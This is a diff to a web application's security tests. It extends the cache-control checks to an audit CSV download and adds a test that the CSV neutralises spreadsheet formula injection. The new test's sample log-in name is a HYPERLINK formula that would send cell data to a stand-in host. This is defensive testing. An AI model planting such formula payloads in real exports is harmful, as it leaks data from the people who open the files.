@@ -136,7 +136,7 @@ def test_sessions_of_people_who_can_enter_the_admin_end_with_the_browser(staff):
     assert cookie["max-age"] == "" and cookie["expires"] == ""
 
 
-@pytest.mark.parametrize("path", ["/review/", "/review/audit/", "/admin/",
+@pytest.mark.parametrize("path", ["/review/", "/review/audit/", "/review/audit.csv", "/admin/",
                                   "/accounts/login/"])
 def test_staff_pages_are_never_stored_by_a_browser_or_proxy(staff, path):
     client = Client()
@@ -145,3 +145,19 @@ def test_staff_pages_are_never_stored_by_a_browser_or_proxy(staff, path):
     response = client.get(path)
     assert response.status_code == 200
     assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
+
+
+def test_the_audit_download_neutralises_a_typed_log_in_name(staff):
+    import csv
+    import io
+
+    evil = '=HYPERLINK("http://x/?"&A1,"x")'
+    attempt(Client(), "site", evil, "wrong")
+    client = Client()
+    attempt(client, "site", "admin", PASSWORD)
+    response = client.get("/review/audit.csv")
+    assert response.status_code == 200
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
+    assert [cell for cell in cells if cell[:1] in "=+-@\t\r" and cell] == []
+    assert any(f"«{evil}»" in cell for cell in cells)  # the name is there, inside the sentence
